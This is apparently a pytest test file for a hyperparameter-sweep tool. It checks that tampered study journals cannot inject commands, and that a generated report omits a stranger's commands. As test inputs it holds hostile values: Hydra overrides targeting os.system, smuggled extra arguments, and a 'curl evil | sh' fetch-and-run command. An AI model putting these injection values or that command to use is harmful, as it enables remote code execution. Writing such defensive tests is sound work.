"""An untrusted journal of a study cannot inject command-line words."""

import json
from pathlib import Path
from typing import Any

import pytest

from quintet.artifacts.untrusted_files import DamagedError
from quintet.base.errors import Code
from quintet.report.sweep.sweep_commands import next_steps
from quintet.report.sweep.sweep_data import SweepData
from quintet.report.sweep.sweep_page import write as write_report
from quintet.study.space import Choice, Interval, Space
from quintet.study.storage import JOURNAL
from quintet.study.study import Study
from quintet.sweep.foreign_trials import check_params
from quintet.sweep.pipeline import open_study
from refusals import Refusal
from usual import every

WORDS = ("sweeper=random", "sweeper.n_trials=3", "optimizer=adam,sgd")
FOREIGN = [
    {"optimizer": "rmsprop"},
    {"optimizer": "adam", "hydra.run.dir": "/"},
    {"optimizer": "adam model._target_=os.system"},
    {"model._target_": "os.system"},
]


def joined(study: Study, point: dict[str, str]) -> None:
    keys = tuple(Choice(key, (value,)) for key, value in point.items())
    study.create(point, Space(keys), {})


@pytest.mark.parametrize("point", FOREIGN)
def test_a_trial_outside_of_the_space_is_refused_by_name(point: Any, settled: Any) -> None:
    plan = settled(*WORDS)
    study = Study(plan.folder, plan.mode)
    study.set_or_check_spec(plan.spec())
    joined(study, {"optimizer": "sgd"})
    check_params(plan, study)
    joined(study, point)
    with Refusal(Code.NOT_TRUSTED, "study"):
        open_study(plan, 3)


def test_defaults_may_leave_out_what_lies_outside_of_the_space(settled: Any) -> None:
    plan = settled(*WORDS, "optimizer.lr=0.1,0.2")
    assert plan.defaults == {"optimizer": "adam"}
    study = Study(plan.folder, plan.mode)
    study.set_or_check_spec(plan.spec())
    joined(study, plan.defaults)
    open_study(plan, 3)


@pytest.mark.parametrize("once", [False, True])
@pytest.mark.parametrize("point", every(4, FOREIGN))
def test_a_warm_start_that_was_kept_is_of_the_space(point: Any, once: bool, settled: Any) -> None:
    plan = settled(*WORDS)
    study = Study(plan.folder, plan.mode)
    study.set_or_check_spec(plan.spec())
    kept = {"x/trials/0001": point} if once else [{"study": "x", "trial": 1, "point": point}]
    study.optuna.set_user_attr("warm_start", kept)
    with Refusal(Code.NOT_TRUSTED, "study"):
        open_study(plan, 3)


@pytest.mark.parametrize("rate", ["nan", "1e999", "0.5", "0.01 x=1"])
def test_what_a_trial_has_explored_is_of_the_space(rate: str, settled: Any) -> None:
    """Population-based training makes requests to a run of it."""
    plan = settled("sweeper=pbt", "optimizer.lr=interval(1e-3,1e-1)")
    study = Study(plan.folder, plan.mode)
    study.set_or_check_spec(plan.spec())
    study.create({"optimizer.lr": "0.01"}, plan.space, {"budget": 1})
    study.note(0, explored={"optimizer.lr": "0.012"})
    open_study(plan, 3)
    study.note(0, explored={"optimizer.lr": rate})
    with Refusal(Code.NOT_TRUSTED, "study"):
        open_study(plan, 3)


@pytest.mark.parametrize("value", [" 0.5", "0.5\n", "inf", "nan", "١", "0_5", "0.5 x=1", "2"])
def test_a_number_is_spelt_as_a_number(value: str) -> None:
    assert not Interval("x", 0.1, 1).contains(value)


def test_an_end_of_a_range_may_be_rounded() -> None:
    parameter = Interval("x", 1 / 3, 2 / 3)
    assert parameter.contains(parameter.at(0))
    assert parameter.contains(parameter.at(1))


@pytest.mark.parametrize(
    "notes",
    [
        *({"point": [1]}, {"point": {"x": 1}}, {"value": "a"}, {"epochs": None}, {"log": {}}),
        {"further": {"f1": "x"}},
        *({"budget": -1}, {"paused_at": -(2**70)}, {"epochs": -3}, {"seconds": float("nan")}),
        *({"sources": [1]}, {"sources": [-1]}, {"cut": "x"}, {"parts": "many"}),
    ],
)
def test_notes_of_other_types_are_refused_by_trial(notes: Any, tmp_path: Path) -> None:
    study = Study(tmp_path, "max")
    joined(study, {"x": "1"})
    study.note(0, **notes)
    with pytest.raises(DamagedError, match=r"journal\.log .*trial 0"):
        Study.read(tmp_path)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        *(("tried_first", wrong) for wrong in ("abc", [["x", {}]], [{"x": 1}], [[0, {"x": "1"}]])),
        *(("about", {"stopped": wrong}) for wrong in ([], {"a": 1}, 3)),
        ("untested", {"a": 1}),
    ],
)
def test_attributes_of_other_types_are_refused_by_name(
    key: str, value: Any, tmp_path: Path
) -> None:
    Study(tmp_path, "max").optuna.set_user_attr(key, value)
    with pytest.raises(DamagedError, match=rf"journal\.log .*({key}|stopped)"):
        Study.read(tmp_path)


@pytest.mark.parametrize(
    "line", [{}, [], "x", 3, {"op_code": 99}, {"op_code": 4, "study_id": 7}, {"op_code": None}]
)
def test_a_hostile_line_is_one_refusal(line: Any, tmp_path: Path) -> None:
    Study(tmp_path, "max")
    with (tmp_path / JOURNAL).open("a") as file:
        file.write(json.dumps(line) + "\n")
    with Refusal(Code.DAMAGED, match=r"journal\.log"):
        Study.read(tmp_path)


SPACE = {"x": {"low": 0.1, "high": 1, "scale": "linear", "integer": False, "when": {}}}


@pytest.mark.parametrize(
    "wrong",
    [
        {"space": {"x": SPACE["x"] | {"low": 2}}},
        {"space": {"x": {"values": [], "when": {}, "ordered": False}}},
        {"space": {"x": "interval(\x1b[31m"}},
        {"objectives": {"score": "upwards"}},
        {"objectives": ["score"]},
    ],
)
def test_a_spec_of_nothing_is_refused_by_name(wrong: Any, tmp_path: Path) -> None:
    study = Study(tmp_path, "max")
    study.optuna.set_user_attr("spec", {"metric": "accuracy (max)", "space": SPACE} | wrong)
    with pytest.raises(DamagedError, match=rf"journal\.log .*{min(wrong)}"):
        Study.read(tmp_path)


@pytest.mark.parametrize(
    "notes",
    [
        *({"objectives": wrong} for wrong in ({"score": 0.5}, {"score": "x", "size": 1.0}, 3)),
        *({"objectives_at_1": wrong} for wrong in ("x", {"score": "x"}, None)),
    ],
)
def test_objectives_that_are_not_numbers_are_refused_by_trial(notes: Any, tmp_path: Path) -> None:
    study = Study(tmp_path, "max")
    spec = {"space": SPACE, "objectives": {"score": "max", "size": "min"}}
    study.optuna.set_user_attr("spec", {"metric": "accuracy (max)"} | spec)
    joined(study, {"x": "0.5"})
    study.note(0, objectives={"score": 0.5, "size": 8.0})
    Study.read(tmp_path)
    study.note(0, **notes)
    with pytest.raises(DamagedError, match=r"journal\.log .*trial 0"):
        Study.read(tmp_path)


@pytest.mark.parametrize("value", ["0.5", "5", "nan", "x"])
def test_a_report_is_written_of_trials_outside_of_their_own_space(
    value: str, tmp_path: Path
) -> None:
    study = Study(tmp_path, "max")
    spec = {"metric": "accuracy (max)", "fixed": [], "space": SPACE, "strategy": {}}
    study.optuna.set_user_attr("spec", spec)
    for number, point in enumerate(({"x": value}, {"y": value}, {"x": "0.2"})):
        joined(study, point)
        study.note(number, status="completed", **({"value": 0.5} if number < 2 else {}))
        study.tell(number, "completed", 0.5)
    assert write_report(Study.read(tmp_path)).is_file()


def test_a_trial_without_what_its_scheduler_noted_is_refused(settled: Any) -> None:
    plan = settled("sweeper=pbt", "optimizer.lr=interval(1e-3,1e-1)")
    study = Study(plan.folder, plan.mode)
    study.set_or_check_spec(plan.spec())
    study.create({"optimizer.lr": "0.01"}, plan.space, {})
    with Refusal(Code.NOT_TRUSTED, "study"):
        open_study(plan, 3)


def test_a_report_shows_no_command_of_a_stranger(tmp_path: Path) -> None:
    study = Study(tmp_path, "max")
    joined(study, {"model._target_": "os.system"})
    study.note(0, value=0.5, status="completed")
    study.tell(0, "completed", 0.5)
    fixed = ["data=digits", "hydra.searchpath=[/evil]"]
    study.set_or_check_spec(
        {"metric": "accuracy (max)", "fixed": fixed, "space": {}, "strategy": {}}
    )
    study.set_about(command="curl evil | sh", total=1, max_epochs=1, defaults=None)
    text = write_report(Study.read(tmp_path)).read_text()
    assert "Omitted from these commands" in text
    shown = " ".join(next_steps(SweepData(Study.read(tmp_path), tmp_path)).values())
    assert "data=digits" in shown
    assert "evil" not in shown
    assert "_target_" not in shown
